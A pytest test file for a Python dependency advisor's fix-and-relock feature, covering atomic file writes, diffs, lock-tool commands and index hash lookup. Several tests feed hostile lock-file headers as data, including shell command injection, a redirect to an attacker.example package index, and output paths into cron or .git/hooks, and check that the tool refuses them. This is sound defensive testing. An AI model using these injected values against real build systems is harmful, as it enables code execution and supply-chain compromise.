"""Side effects of ``--fix``: atomic, all-or-nothing writes; ``--diff`` writing nothing; re-lock
commands run (and undone) only when asked; the index hash lookup."""

from __future__ import annotations

import json
import os
import stat
import sys
import tempfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from advisor.errors import AdvisorError
from advisor.index.source import IndexSource
from advisor.write import (
    IndexHashLookup,
    Patch,
    RelockCommand,
    WriteFailed,
    apply,
    restore,
    run_relock,
    unified_diff,
)
from advisor.write.apply import save_files
from advisor.write.decision import Arm, Targets, Want
from advisor.write.locks import CompiledHeader, compile_commands, header_argv, header_refusal


def patches(tmp_path: Path, count: int = 3) -> list[Patch]:
    out = []
    for i in range(count):
        path = tmp_path / f"requirements-{i}.txt"
        path.write_bytes(b"flask\r\nddtrace==2.3.0\r\n")
        out.append(
            Patch(path, b"flask\r\nddtrace==2.3.0\r\n", b"flask\r\nddtrace==4.6.0\r\n", "ddtrace")
        )
    return out


def contents(ps: list[Patch]) -> list[bytes]:
    return [p.path.read_bytes() for p in ps]


def leftovers(tmp_path: Path) -> list[str]:
    return sorted(p.name for p in tmp_path.rglob("*.aap-advise.tmp"))


def test_apply_writes_every_file_and_keeps_the_mode(tmp_path: Path) -> None:
    ps = patches(tmp_path)
    os.chmod(ps[1].path, 0o640)
    apply(ps)
    assert contents(ps) == [p.after for p in ps]
    assert stat.S_IMODE(ps[1].path.stat().st_mode) == 0o640
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize(
    ("module", "name", "error"),
    [
        (os, "replace", OSError(28, "No space left on device")),
        (tempfile, "mkstemp", PermissionError(13, "Permission denied")),  # a read-only directory
        (os, "fsync", OSError(5, "Input/output error")),
    ],
)
def test_failure_on_the_second_file_restores_the_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, module: Any, name: str, error: OSError
) -> None:
    ps = patches(tmp_path)
    real = getattr(module, name)
    calls = []

    def flaky(*args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        if len(calls) == 2:
            raise error
        return real(*args, **kwargs)

    monkeypatch.setattr(module, name, flaky)
    with pytest.raises(WriteFailed) as info:
        apply(ps)
    assert info.value.file == str(ps[1].path)
    assert "every file was restored" in info.value.message
    assert contents(ps) == [p.before for p in ps]
    assert leftovers(tmp_path) == []


@pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() == 0, reason="root ignores directory permissions"
)
def test_read_only_directory_leaves_every_file_as_it_was(tmp_path: Path) -> None:
    ps = patches(tmp_path, 1)
    locked = tmp_path / "locked"
    locked.mkdir()
    target = locked / "requirements.txt"
    target.write_bytes(ps[0].before)
    ps.append(Patch(target, ps[0].before, ps[0].after, "ddtrace"))
    locked.chmod(0o555)
    try:
        with pytest.raises(WriteFailed):
            apply(ps)
        assert contents(ps) == [p.before for p in ps]
    finally:
        locked.chmod(0o755)


def test_a_file_changed_since_planning_stops_everything(tmp_path: Path) -> None:
    ps = patches(tmp_path)
    ps[2].path.write_bytes(b"edited meanwhile\n")
    with pytest.raises(WriteFailed) as info:
        apply(ps)
    assert info.value.code == "file-changed"
    assert contents(ps)[:2] == [ps[0].before, ps[1].before]


def test_a_symlink_stays_a_link(tmp_path: Path) -> None:
    real = tmp_path / "real.txt"
    real.write_bytes(b"ddtrace==2.3.0\n")
    link = tmp_path / "requirements.txt"
    link.symlink_to(real)
    apply([Patch(link, b"ddtrace==2.3.0\n", b"ddtrace==4.6.0\n", "ddtrace")])
    assert link.is_symlink() and real.read_bytes() == b"ddtrace==4.6.0\n"


def test_restore_puts_the_original_bytes_back(tmp_path: Path) -> None:
    ps = patches(tmp_path)
    apply(ps)
    restore(ps)
    assert contents(ps) == [p.before for p in ps]


def test_diff_writes_nothing_and_shows_line_endings(tmp_path: Path) -> None:
    ps = patches(tmp_path, 1)
    ps.append(Patch(tmp_path / "r.txt", b"ddtrace==2.3.0", b"ddtrace==4.6.0", "ddtrace"))
    (tmp_path / "r.txt").write_bytes(b"ddtrace==2.3.0")
    before = {p.path: (p.path.read_bytes(), p.path.stat().st_mtime_ns) for p in ps}
    diff = unified_diff(ps)
    assert {p.path: (p.path.read_bytes(), p.path.stat().st_mtime_ns) for p in ps} == before
    name = ps[0].path.as_posix()
    assert diff.startswith(
        f"--- a/{name}\n+++ b/{name}\n@@ -1,2 +1,2 @@\n flask\r\n-ddtrace==2.3.0\r\n+ddtrace==4.6.0\r\n"
    )
    assert diff.endswith(
        "-ddtrace==2.3.0\n\\ No newline at end of file\n+ddtrace==4.6.0\n\\ No newline at end of file\n"
    )


def test_diff_of_utf16_is_text(tmp_path: Path) -> None:
    before = "ddtrace==2.3.0\n".encode("utf-16")
    after = "ddtrace==4.6.0\n".encode("utf-16")
    diff = unified_diff([Patch(tmp_path / "r.txt", before, after, "ddtrace")])
    assert "-ddtrace==2.3.0\n+ddtrace==4.6.0\n" in diff


# --- re-lock commands ------------------------------------------------------------------------


def tool(bin_dir: Path, name: str, body: str) -> None:
    """A fake lock tool: a Python script on PATH."""
    bin_dir.mkdir(exist_ok=True)
    script = bin_dir / name
    script.write_text(f"#!{sys.executable}\nimport sys, pathlib\n{body}\n", encoding="utf-8")
    script.chmod(0o755)


def test_relock_runs_the_tool_in_the_lock_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool(tmp_path / "bin", "uv", "pathlib.Path('uv.lock').write_text(' '.join(sys.argv[1:]))")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    project = tmp_path / "project"
    project.mkdir()
    (project / "uv.lock").write_text("old")
    run_relock(
        [
            RelockCommand(
                ("uv", "--upgrade-package", "ddtrace==4.6.0"),
                project,
                project / "uv.lock",
                "",
            )
        ]
    )
    assert (project / "uv.lock").read_text() == "--upgrade-package ddtrace==4.6.0"


def test_a_failing_relock_restores_what_the_tools_rewrote(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool(tmp_path / "bin", "pdm", "pathlib.Path('a.lock').write_text('new')")
    tool(
        tmp_path / "bin",
        "poetry",
        "pathlib.Path('b.lock').write_text('half'); print('resolution failed', file=sys.stderr); sys.exit(1)",
    )
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    (tmp_path / "a.lock").write_text("old a")
    commands = [
        RelockCommand(("pdm",), tmp_path, tmp_path / "a.lock", ""),
        RelockCommand(("poetry",), tmp_path, tmp_path / "b.lock", ""),
    ]
    with pytest.raises(WriteFailed) as info:
        run_relock(commands)
    assert info.value.code == "relock-failed" and "resolution failed" in info.value.message
    assert (tmp_path / "a.lock").read_text() == "old a"
    assert not (tmp_path / "b.lock").exists()


def test_a_missing_tool_is_reported_before_anything_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool(tmp_path / "bin", "uv", "pathlib.Path('a.lock').write_text('new')")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    (tmp_path / "a.lock").write_text("old")
    commands = [
        RelockCommand(("uv",), tmp_path, tmp_path / "a.lock", ""),
        RelockCommand(("pipenv", "lock"), tmp_path, tmp_path / "b.lock", ""),
    ]
    with pytest.raises(WriteFailed) as info:
        run_relock(commands)
    assert info.value.code == "tool-missing" and "pipenv" in info.value.message
    assert (tmp_path / "a.lock").read_text() == "old"


@pytest.mark.skipif(sys.platform == "win32", reason="FIFOs")
def test_relock_refuses_a_file_it_would_rewrite_that_is_a_fifo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """run() saves each file before its tool runs: a FIFO is refused, never opened to wait."""
    tool(tmp_path / "bin", "uv", "pathlib.Path('RAN').touch()")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    os.mkfifo(tmp_path / "uv.lock")
    with pytest.raises(WriteFailed) as info:
        run_relock([RelockCommand(("uv", "lock"), tmp_path, tmp_path / "uv.lock", "")])
    assert info.value.code == "relock-refused" and "named pipe" in info.value.message
    assert not (tmp_path / "RAN").exists()
    with pytest.raises(WriteFailed, match="named pipe"):  # swapped in after the check
        save_files([tmp_path / "uv.lock"])
    assert save_files([tmp_path / "absent.lock"]) == {tmp_path / "absent.lock": None}


def test_relock_command_display() -> None:
    assert str(RelockCommand(("uv", "lock"), Path("."), Path("uv.lock"), "")) == "uv lock"
    assert (
        str(RelockCommand(("uv", "lock"), Path("my app"), Path("my app/uv.lock"), ""))
        == "(cd 'my app' && uv lock)"
    )


# --- hashes from the index -------------------------------------------------------------------


def test_index_hash_lookup_takes_every_file_of_the_version() -> None:
    files = [
        {
            "filename": "ddtrace-4.6.0-cp312-cp312-manylinux_2_17_x86_64.whl",
            "url": "a",
            "hashes": {"sha256": "b" * 64},
        },
        {
            "filename": "ddtrace-4.6.0.tar.gz",
            "url": "b",
            "hashes": {"sha256": "a" * 64},
            "yanked": True,
        },
        {
            "filename": "ddtrace-4.6.0-cp39-cp39-win_amd64.whl",
            "url": "c",
            "hashes": {"md5": "0" * 32},
        },
        {"filename": "ddtrace-4.6.1.tar.gz", "url": "d", "hashes": {"sha256": "c" * 64}},
    ]
    requests: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        requests.append(str(request.url))
        body = json.dumps({"meta": {"api-version": "1.1"}, "name": "ddtrace", "files": files})
        return httpx.Response(
            200, content=body, headers={"content-type": "application/vnd.pypi.simple.v1+json"}
        )

    with httpx.Client(transport=httpx.MockTransport(handler)) as http:
        lookup = IndexHashLookup(IndexSource(["https://index.test/simple/"], None, client=http))
        assert lookup.hashes("DDTrace", "4.6.0") == [f"sha256:{'a' * 64}", f"sha256:{'b' * 64}"]
        assert lookup.hashes("ddtrace", "4.6.1") == [f"sha256:{'c' * 64}"]
    assert requests == ["https://index.test/simple/ddtrace/"]


def test_index_hash_lookup_reports_an_unreachable_index() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused", request=request)

    with httpx.Client(transport=httpx.MockTransport(handler)) as http:
        lookup = IndexHashLookup(IndexSource(["https://index.test/simple/"], None, client=http))
        with pytest.raises(AdvisorError):
            lookup.hashes("ddtrace", "4.6.0")


def test_importing_the_writers_does_not_import_httpx() -> None:
    import subprocess

    code = "import sys, advisor.write; print('httpx' in sys.modules)"
    out = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert out.stdout.strip() == "False"


def test_one_file_patched_twice_is_refused(tmp_path: Path) -> None:
    ps = patches(tmp_path, 1)
    twin = Patch(tmp_path / "." / ps[0].path.name, ps[0].before, b"other\n", "ddtrace")
    with pytest.raises(WriteFailed):
        apply([ps[0], twin])
    assert contents(ps) == [ps[0].before]


@pytest.mark.parametrize(
    ("tool", "header", "argv"),
    [
        (
            "pip-compile",
            "pip-compile --generate-hashes --output-file=requirements.txt requirements.in",
            (
                "pip-compile",
                "--generate-hashes",
                "--output-file=requirements.txt",
                "requirements.in",
            ),
        ),
        (
            "pip-compile",
            "pip-compile -o ./requirements.txt in/prod.in --resolver backtracking -c c.txt",
            (
                "pip-compile",
                "-o",
                "./requirements.txt",
                "in/prod.in",
                "--resolver",
                "backtracking",
                "-c",
                "c.txt",
            ),
        ),
        ("pip-compile", "pip-compile requirements.in", ("pip-compile", "requirements.in")),
        ("pip-compile", "pip-compile pyproject.toml", ("pip-compile", "pyproject.toml")),
        ("pip-compile", "pip-compile --no-index", ("pip-compile", "--no-index")),  # requirements.in
        (
            "uv pip compile",
            "uv pip compile requirements.in -o requirements.txt --python-version 3.11 --universal",
            (
                "uv",
                "pip",
                "compile",
                "requirements.in",
                "-o",
                "requirements.txt",
                "--python-version",
                "3.11",
                "--universal",
            ),
        ),
        (
            "uv export",
            "uv export --frozen --no-hashes --output-file requirements.txt",
            ("uv", "export", "--frozen", "--no-hashes", "--output-file", "requirements.txt"),
        ),
    ],
)
def test_a_header_of_known_options_becomes_the_command(
    tmp_path: Path, tool: str, header: str, argv: tuple[str, ...]
) -> None:
    (tmp_path / "requirements.in").write_text("ddtrace\n")
    assert header_argv(tool, header, tmp_path / "requirements.txt") == argv


@pytest.mark.parametrize(
    ("tool", "header"),
    [
        ("pip-compile", "sh -c 'id > PWNED' pip-compile"),
        ("pip-compile", "pip-compile; id > PWNED"),
        ("pip-compile", "pip-compile --pip-args='--index-url http://attacker.example/simple'"),
        ("pip-compile", "pip-compile --config=/tmp/evil.toml requirements.in"),
        ("pip-compile", "pip-compile -o ../../etc/cron.d/x requirements.in"),
        ("pip-compile", "pip-compile $(id) requirements.in"),
        ("pip-compile", "pip-compile 'unterminated"),
        ("uv pip compile", "uv pip compile -p ./evil-python requirements.in"),
        ("uv pip compile", "uv pip compile --python=/tmp/x/python3 requirements.in"),
        ("uv export", "uv export --format requirements-txt --script evil.py"),
        ("uv export", "uvx --from evil uv export"),
    ],
)
def test_a_header_is_data_never_a_command(tmp_path: Path, tool: str, header: str) -> None:
    assert header_argv(tool, header, tmp_path / "requirements.txt") is None


TARGETS = Targets(
    {"ddtrace": Want("ddtrace", (Arm("4.6.0", "", ("3.12",)),), raise_floor=True)}, ("3.12",)
)


EVIL = "https://attacker.example/simple"
PIN = "pip-compile -o requirements.txt"
UPC = "uv pip compile -o requirements.txt"


@pytest.mark.parametrize(
    ("tool", "header", "why"),
    [
        (
            "pip-compile",
            f"{PIN} --extra-index-url={EVIL} --trusted-host=attacker.example r.in",
            "--extra-index-url",
        ),
        ("pip-compile", f"{PIN} -i {EVIL} requirements.in", "-i"),
        ("pip-compile", f"{PIN} --index-url {EVIL} requirements.in", "--index-url"),
        ("pip-compile", f"{PIN} -f {EVIL} requirements.in", "-f"),
        ("pip-compile", f"{PIN} --find-links={EVIL} requirements.in", "--find-links"),
        ("pip-compile", f"{PIN} --trusted-host attacker.example requirements.in", "--trusted-host"),
        ("uv pip compile", f"{UPC} --index {EVIL} requirements.in", "--index"),
        ("uv pip compile", f"{UPC} --default-index={EVIL} requirements.in", "--default-index"),
        (
            "uv pip compile",
            f"{UPC} --index-strategy unsafe-best-match requirements.in",
            "--index-strategy",
        ),
        ("uv pip compile", f"{UPC} --extra-index-url {EVIL} requirements.in", "--extra-index-url"),
    ],
)
def test_a_header_never_chooses_the_index(tmp_path: Path, tool: str, header: str, why: str) -> None:
    """Before: the re-compile went to the header's index, trusted host and find-links page
    (with the credentials pip holds); now there is no command and the reason names the option."""
    (tmp_path / "requirements.in").write_text("ddtrace\n")
    path = tmp_path / "requirements.txt"
    assert compile_commands(CompiledHeader(tool, header, "3.12"), path, TARGETS) == []
    said = header_refusal(tool, header, path)
    assert said is not None and f"({why})" in said and "indexes are never taken from a file" in said
    assert "attacker" not in said


@pytest.mark.parametrize(
    ("header", "why"),
    [
        ("pip-compile -o .git/hooks/x.txt requirements.in", "its output"),
        ("pip-compile --output-file=other.txt requirements.in", "its output"),
        ("pip-compile -o requirements.txt -o .git/config.txt requirements.in", "its output"),
        ("pip-compile -o sub/requirements.txt requirements.in", "its output"),
        ("pip-compile other.in", "its output"),  # pip-compile writes other.txt
        ("pip-compile", "pip-compile would run setup.py"),  # no requirements.in, a setup.py
        ("pip-compile -o requirements.txt -c .git/config.txt requirements.in", "under .git"),
        (
            "pip-compile -o requirements.txt --constraint=sub/.GIT/x.txt requirements.in",
            "under .git",
        ),
        ("pip-compile -o requirements.txt .git/x.in", "under .git"),
        ("pip-compile -o requirements.txt -c gitlink/config.txt requirements.in", "under .git"),
        ("pip-compile -o requirements.txt -c out/secret.txt requirements.in", "leading out"),
        ("pip-compile -o requirements.txt outlink.in", "leading out"),
        ("pip-compile -o requirements.txt requirements.in setup.py", "would run setup.py"),
        ("pip-compile -o requirements.txt sub/setup.py", "would run setup.py"),
        ("uv pip compile requirements.in", "writes no -o"),  # standard output
        ("uv pip compile requirements.in -o requirements.txt --override out/o.txt", "leading out"),
        ("uv export --frozen", "writes no -o"),
        ("uv export --frozen -o .git/hooks/pre-commit.txt", "its output"),
    ],
)
def test_a_header_command_writes_only_its_file_and_reads_inside_its_folder(
    tmp_path: Path, header: str, why: str
) -> None:
    """Before, each of these was run by --relock and printed: -o could name any file of the
    repository (.git/hooks included), -c and inputs any file a link reaches, setup.py was run."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("token\n")
    (outside / "o.txt").write_text("x\n")
    (outside / "x.in").write_text("x\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / ".git" / "config.txt").write_text("[core]\n")
    (repo / "setup.py").write_text("import os; os.system('id > PWNED')\n")
    (repo / "other.in").write_text("ddtrace\n")
    (repo / "out").symlink_to(outside, target_is_directory=True)
    (repo / "outlink.in").symlink_to(outside / "x.in")
    (repo / "gitlink").symlink_to(repo / ".git", target_is_directory=True)
    if header != "pip-compile":
        (repo / "requirements.in").write_text("ddtrace\n")
    tool = (
        "uv export"
        if header.startswith("uv export")
        else ("uv pip compile" if header.startswith("uv pip") else "pip-compile")
    )
    path = repo / "requirements.txt"
    assert compile_commands(CompiledHeader(tool, header, "3.12"), path, TARGETS) == []
    said = header_refusal(tool, header, path)
    assert said is not None and why in said, said


def test_a_header_command_runs_in_the_folder_of_its_file(tmp_path: Path) -> None:
    """The command runs beside the file, so its -o names the file from there: a header written
    from the repository root (-o requirements/prod.txt) would write requirements/requirements/."""
    folder = tmp_path / "requirements"
    folder.mkdir()
    (folder / "prod.in").write_text("ddtrace\n")
    path = folder / "prod.txt"
    [command] = compile_commands(
        CompiledHeader("pip-compile", "pip-compile -o prod.txt prod.in", "3.12"), path, TARGETS
    )
    assert command.argv == (
        "pip-compile",
        "-o",
        "prod.txt",
        "prod.in",
        "--upgrade-package",
        "ddtrace==4.6.0",
    )
    assert (command.cwd, command.file) == (folder, path)
    rooted = "pip-compile -o requirements/prod.txt requirements/prod.in"
    assert compile_commands(CompiledHeader("pip-compile", rooted, "3.12"), path, TARGETS) == []


def test_relock_runs_only_lock_tools(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tool(tmp_path / "bin", "sh", "pathlib.Path('PWNED').write_text('ran')")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(WriteFailed, match="not a lock tool"):
        run_relock([RelockCommand(("sh", "-c", "id"), tmp_path, tmp_path / "r.txt", "")])
    assert not (tmp_path / "PWNED").exists()
